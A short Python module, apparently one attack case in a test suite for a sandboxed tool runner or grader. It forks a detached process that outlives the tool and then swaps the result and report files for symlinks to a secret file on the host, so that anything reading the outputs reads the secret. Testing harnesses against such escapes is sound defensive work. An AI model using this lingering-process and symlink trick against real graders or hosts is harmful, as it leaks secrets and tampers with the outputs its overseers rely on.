"""Leaves a process behind that puts links to a file of the host where result and output were."""

import os
import time

from support.leaving import RESULT, RESULT_OF_NOTHING


def attack(target):
    with open("output/report.txt", "w") as file:
        file.write("nothing\n")
    with open(RESULT, "wb") as file:
        file.write(RESULT_OF_NOTHING)
    tool = os.getpid()
    if os.fork() == 0:
        os.setsid()
        wait_for_end(tool)
        for path in (RESULT, "output/report.txt"):
            os.symlink(target["secret_file"], "link")
            os.rename("link", path)
        os._exit(0)
    os._exit(0)


def wait_for_end(tool):
    until = time.monotonic() + 8
    while os.getppid() == tool and time.monotonic() < until:
        time.sleep(0.001)
